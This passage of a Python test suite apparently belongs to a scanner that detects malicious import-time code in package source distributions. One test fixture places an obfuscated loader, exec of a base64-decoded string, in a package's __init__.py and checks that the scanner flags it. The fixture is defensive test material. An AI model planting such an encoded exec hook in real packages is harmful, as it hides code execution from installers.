    files = {"src/demo/__init__.py": _PHONE, "action/main.py": _PHONE, "lint-code.py": "x = 1\n"}
    assert _import_time(files) == {"demo-1.0/src/demo/__init__.py"}
    # a src/ folder that is itself the package (packages=["src"]) is installed as "src"
    own = {"src/__init__.py": _PHONE, "src/demo.egg-info/top_level.txt": "src\n"}
    assert _import_time(own) == {"demo-1.0/src/__init__.py"}


def test_a_project_named_demo_is_analysed_as_its_own_package() -> None:
    payload = "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n"
    data = make_sdist({"demo/__init__.py": payload, "PKG-INFO": "Name: demo\nVersion: 1.0\n"})
    analysis = analyze_bytes(data, "demo-1.0.tar.gz")
    stages = {f.stage for f in analysis.result.findings if f.path == "demo-1.0/demo/__init__.py"}
    assert Stage.IMPORT in stages
    assert analysis.result.verdict is not Verdict.CLEAN
